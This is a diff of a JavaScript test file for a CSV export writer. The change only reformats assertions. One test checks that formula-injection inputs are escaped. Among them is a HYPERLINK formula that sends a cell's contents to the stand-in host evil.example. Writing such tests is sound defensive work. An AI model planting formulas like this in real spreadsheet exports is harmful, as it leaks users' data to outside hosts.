@@ -10,11 +10,22 @@ describe('the CSV writer every export uses', () => {
   });
 
   it('neutralises every cell a spreadsheet would run as a formula', () => {
-    const planted = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1)', '-2+3', '+201234', '\t=1+1', '\r=1+1'];
-    expect(csvRow(planted)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'-2+3,'+201234,'\t=1+1,"'\r=1+1"\r\n`);
+    const planted = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      '@SUM(1+1)',
+      '-2+3',
+      '+201234',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    expect(csvRow(planted)).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'-2+3,'+201234,'\t=1+1,"'\r=1+1"\r\n`,
+    );
   });
 
   it('writes our own numbers, booleans and dates as they are', () => {
-    expect(csvRow([-5, 42, true, false, new Date('2026-01-02T03:04:05Z'), null, undefined])).toBe('-5,42,true,false,2026-01-02T03:04:05.000Z,,\r\n');
+    expect(csvRow([-5, 42, true, false, new Date('2026-01-02T03:04:05Z'), null, undefined])).toBe(
+      '-5,42,true,false,2026-01-02T03:04:05.000Z,,\r\n',
+    );
   });
 });
